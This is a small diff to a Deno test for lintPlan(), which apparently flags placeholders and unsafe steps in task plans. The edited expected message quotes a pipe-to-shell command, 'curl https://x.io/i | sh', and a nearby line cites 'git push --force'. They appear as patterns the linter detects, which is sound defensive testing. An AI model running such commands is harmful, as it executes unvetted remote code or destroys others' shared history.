@@ -157,7 +157,7 @@ Deno.test("lintPlan() finds what is wrong in subtasks of Task Master, on their o
     `placeholder | ${two} | Task 3 holds a placeholder (???)`,
     `placeholder | ${two} | Task 3 holds a placeholder (TBD)`,
     `safety | ${one} | Task 3 overwrites the history that others have (git push --force)`,
-    `safety | ${one} | Task 3 runs a download unseen (curl | sh)`,
+    `safety | ${one} | Task 3 runs a download unseen (curl https://x.io/i | sh)`,
   ]);
 });
 
